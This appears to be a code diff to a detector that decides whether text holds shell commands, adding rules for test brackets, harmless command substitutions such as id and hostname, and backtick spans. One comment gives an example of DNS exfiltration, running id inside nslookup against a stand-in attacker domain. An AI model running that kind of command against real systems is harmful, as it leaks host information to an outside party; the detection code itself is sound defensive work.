@@ -48,7 +48,8 @@ export function followsCommand(text: ByteString, separator: number): boolean {
   const begin = line.slice(beforeCommand.exec(line)?.[0].length ?? 0);
   const word = firstWord.exec(begin)?.[0] ?? '';
   if (word.startsWith('.') || word.startsWith('~')) return word.length > 3;
-  if (ownPrograms.has(word) || keywords.test(word)) return true;
+  if (ownPrograms.has(word) || keywords.test(word) || /^\[{1,2} [^\]]{1,200} \]/.test(begin))
+    return true;
   if (clearCommands.has(word) && word !== begin) return true;
   if (ambiguousCommands.has(word) && flag.test(begin.slice(word.length))) return true;
   if (callOfPhp.test(line)) return true;
@@ -88,6 +89,36 @@ export function isHarmless(text: ByteString, from: number): boolean {
   if (installers.test(word) && ofName.test(rest) && !wholeRun.test(rest)) return false;
   if (ownPrograms.has(word) || ownCommands.has(word)) return true;
   return !clearCommands.has(word) && !ambiguousCommands.has(word);
+}
+
+const ownFact = new RegExp(
+  String.raw`^\s{0,4}(?:id -[gnu]{1,2}|hostname -[fs]|uname -[mrs]|` +
+    String.raw`stat -[cf] ["']?%\w["']? [\w"$./{}-]{1,64})\s{0,4}\)`,
+);
+
+/** Whether a substitution gives a number or a name that scripts put into their own commands. */
+export function isOwnFact(text: ByteString, from: number): boolean {
+  return ownFact.test(text.slice(from, from + lineBytesMax));
+}
+
+const label = /^(?:\.[\w-]{1,30}){2}/;
+
+/**
+ * Whether the whole text is in the backticks at an offset, or code stands before them: Markdown has
+ * words around them.
+ */
+export function isBacktickInCode(text: ByteString, at: number): boolean {
+  const close = text.indexOf('`', at + 1);
+  if (close < 0 || close - at > 200) return false;
+  const before = text.charAt(at - 1);
+  const after = text.slice(close + 1, close + 3);
+  // Nothing but a name or an address before them.
+  if (after === '' && at < 40 && /^[\w.:@/-]{0,40}$/.test(text.slice(0, at))) return true;
+  if (at === 0) return after === '' || /^[;|&'"#]/.test(after);
+  // The output of a command as a label of a host: `nslookup \`id\`.evil.example`.
+  if (after.startsWith('.') && label.test(text.slice(close + 1, close + 40))) return true;
+  const substituted = before === '(' && text.charAt(at - 2) === '$';
+  return (substituted || /[;|&'"=$]/.test(before)) && /^(?:$|[;|&'"#)])/.test(after);
 }
 
 const proseBefore = /[a-z]{2,} [a-z]{2,}/i;
